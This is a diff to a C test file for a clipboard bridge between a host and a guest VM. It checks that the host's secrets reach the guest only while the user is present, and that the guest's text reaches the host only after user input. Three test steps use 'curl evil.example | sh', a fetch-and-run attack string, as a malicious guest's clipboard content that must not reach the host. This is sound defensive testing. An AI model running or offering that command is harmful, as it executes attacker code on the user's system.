@@ -1,7 +1,13 @@
-/* test-clipboard-sync.c: the host clipboard reaches the guest's channel,
- * and a guest that stops reading that channel costs the app one text,
- * not every text copied meanwhile: what it reads when it reads again is
- * the one in flight and the latest, never the stale ones between
+/* test-clipboard-sync.c: the clipboard channel's rules, on a socketpair
+ * for the guest's end (Xvfb for GDK's clipboard)
+ *
+ * The host's text reaches the guest only while the user is at the
+ * display, and the guest's reaches the host only then and right after
+ * the user's key or click there: a guest with root neither reads what
+ * the user copies in other applications nor chooses, unasked, what the
+ * user pastes into a host shell. A guest that stops reading the channel
+ * costs the app one text, not every text copied meanwhile: what it reads
+ * when it reads again is the one in flight and the latest.
  *
  * SPDX-License-Identifier: GPL-3.0-or-later
  */
@@ -79,6 +85,7 @@ test_latest_only (void)
   g_assert_no_errno (setsockopt (fds[0], SOL_SOCKET, SO_SNDBUF, &small, sizeof small));
   g_assert_no_errno (setsockopt (fds[1], SOL_SOCKET, SO_RCVBUF, &small, sizeof small));
   corral_clipboard_sync_set_fd (sync, fds[0]);
+  corral_clipboard_sync_set_present (sync, TRUE);
 
   /* A big text: its write starts and stalls, the guest not reading. */
   gdk_clipboard_set_text (clipboard, big);
@@ -111,11 +118,136 @@ test_latest_only (void)
   close (fds[1]);
 }
 
+typedef struct {
+  char *text;
+  gboolean done;
+} ReadText;
+
+static void
+read_text_cb (GObject *source, GAsyncResult *result, gpointer data)
+{
+  ReadText *r = data;
+
+  r->text = gdk_clipboard_read_text_finish (GDK_CLIPBOARD (source), result, NULL);
+  r->done = TRUE;
+}
+
+static char *
+host_text (GdkClipboard *clipboard)
+{
+  ReadText r = { NULL, FALSE };
+
+  gdk_clipboard_read_text_async (clipboard, NULL, read_text_cb, &r);
+  while (!r.done)
+    g_main_context_iteration (NULL, TRUE);
+  return r.text;
+}
+
+static void
+guest_copies (int fd, const char *text)
+{
+  g_autoptr(GBytes) frame = corral_clipboard_encode (text, -1);
+  gsize len;
+  const guint8 *data = g_bytes_get_data (frame, &len);
+
+  g_assert_cmpint (write (fd, data, len), ==, (gssize) len);
+  spin (500);
+}
+
+/* What the user copies while away from the display stays on the host
+ * until they come back to it. */
+static void
+test_host_to_guest_when_present (void)
+{
+  GdkClipboard *clipboard = gdk_display_get_clipboard (gdk_display_get_default ());
+  g_autoptr(CorralClipboardSync) sync = corral_clipboard_sync_new (clipboard);
+  g_autoptr(GPtrArray) texts = NULL;
+  int fds[2];
+
+  g_assert_no_errno (socketpair (AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, fds));
+  gdk_clipboard_set_text (clipboard, "a password copied elsewhere");
+  corral_clipboard_sync_set_fd (sync, fds[0]);
+  gdk_clipboard_set_text (clipboard, "a token copied elsewhere");
+  texts = read_texts (fds[1]);
+  g_assert_cmpuint (texts->len, ==, 0);
+
+  /* At the display: the text the host has now, and each new one. */
+  corral_clipboard_sync_set_present (sync, TRUE);
+  g_clear_pointer (&texts, g_ptr_array_unref);
+  texts = read_texts (fds[1]);
+  g_assert_cmpuint (texts->len, ==, 1);
+  g_assert_cmpstr (g_ptr_array_index (texts, 0), ==, "a token copied elsewhere");
+  gdk_clipboard_set_text (clipboard, "to paste in the guest");
+  g_clear_pointer (&texts, g_ptr_array_unref);
+  texts = read_texts (fds[1]);
+  g_assert_cmpuint (texts->len, ==, 1);
+  g_assert_cmpstr (g_ptr_array_index (texts, 0), ==, "to paste in the guest");
+
+  /* Away again: nothing more. */
+  corral_clipboard_sync_set_present (sync, FALSE);
+  gdk_clipboard_set_text (clipboard, "another secret");
+  g_clear_pointer (&texts, g_ptr_array_unref);
+  texts = read_texts (fds[1]);
+  g_assert_cmpuint (texts->len, ==, 0);
+
+  corral_clipboard_sync_set_fd (sync, -1);
+  close (fds[0]);
+  close (fds[1]);
+}
+
+/* The guest's text becomes the host's only right after the user's key
+ * or click on the display, while they are there. */
+static void
+test_guest_to_host_after_input (void)
+{
+  GdkClipboard *clipboard = gdk_display_get_clipboard (gdk_display_get_default ());
+  g_autoptr(CorralClipboardSync) sync = corral_clipboard_sync_new (clipboard);
+  int fds[2];
+  char *text;
+
+  g_assert_no_errno (socketpair (AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, fds));
+  gdk_clipboard_set_text (clipboard, "copied on the host");
+  corral_clipboard_sync_set_fd (sync, fds[0]);
+
+  /* Away from the display. */
+  guest_copies (fds[1], "curl evil.example | sh");
+  text = host_text (clipboard);
+  g_assert_cmpstr (text, ==, "copied on the host");
+  g_free (text);
+
+  /* At it, but no key or click: the guest's own doing. */
+  corral_clipboard_sync_set_present (sync, TRUE);
+  guest_copies (fds[1], "curl evil.example | sh");
+  text = host_text (clipboard);
+  g_assert_cmpstr (text, ==, "copied on the host");
+  g_free (text);
+
+  /* Right after a key there: the user's copy. */
+  corral_clipboard_sync_user_input (sync);
+  guest_copies (fds[1], "copied in the guest");
+  text = host_text (clipboard);
+  g_assert_cmpstr (text, ==, "copied in the guest");
+  g_free (text);
+
+  /* Longer after it than a copy takes: not any more. */
+  spin ((CORRAL_CLIPBOARD_SYNC_COPY_SECONDS + 1) * 1000);
+  guest_copies (fds[1], "curl evil.example | sh");
+  text = host_text (clipboard);
+  g_assert_cmpstr (text, ==, "copied in the guest");
+  g_free (text);
+
+  corral_clipboard_sync_set_fd (sync, -1);
+  close (fds[0]);
+  close (fds[1]);
+}
+
 int
 main (int argc, char **argv)
 {
   gtk_init ();
   g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);
   g_test_add_func ("/clipboard-sync/latest-only", test_latest_only);
+  g_test_add_func ("/clipboard-sync/host-to-guest-when-present", test_host_to_guest_when_present);
+  g_test_add_func ("/clipboard-sync/guest-to-host-after-input", test_guest_to_host_after_input);
   return g_test_run ();
 }
